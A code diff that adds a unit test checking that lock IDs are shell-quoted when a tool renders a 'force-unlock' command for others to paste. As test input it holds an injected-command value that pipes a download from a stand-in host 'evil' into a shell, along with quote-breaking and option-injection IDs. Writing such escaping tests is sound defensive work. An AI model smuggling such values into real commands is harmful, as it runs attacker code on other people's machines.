@@ -57,6 +57,21 @@ TEST(LockInfo, HolderKeepsAllButThreeMembers) {
   CHECK(text.find("ask its holder or an administrator") != std::string::npos);
 }
 
+// Who locks chooses the ID, and others paste the command that frees it.
+TEST(LockInfo, AnIdIsOneWordOfAShell) {
+  const StateKey key{"", "net", "prod"};
+  const auto info = [&key](const std::string& id, const std::string& said) {
+    LockRecord record = Record(R"({"Info":")" + said + R"("})");
+    record.id = id;
+    const std::string text = RenderHolder(record, key, 0, Freeing::kByForce);
+    return *ParseSmallJson(text)->String("Info");
+  };
+  STRCMP_CONTAINS("force-unlock 'x;curl${IFS}evil|sh'", info("x;curl${IFS}evil|sh", "").c_str());
+  STRCMP_CONTAINS("force-unlock 'a'\\''b'", info("a'b", "").c_str());
+  STRCMP_CONTAINS("force-unlock '--help'", info("--help", "").c_str());
+  STRCMP_CONTAINS("; its holder says: run this", info("a", "run this").c_str());
+}
+
 TEST(LockInfo, ATokenThatHasExpiredIsTold) {
   const std::string kept = NoteTokenEnd(std::string_view(kInfo), 1764000060);
   CHECK(ParseLockInfo(kept).ok());
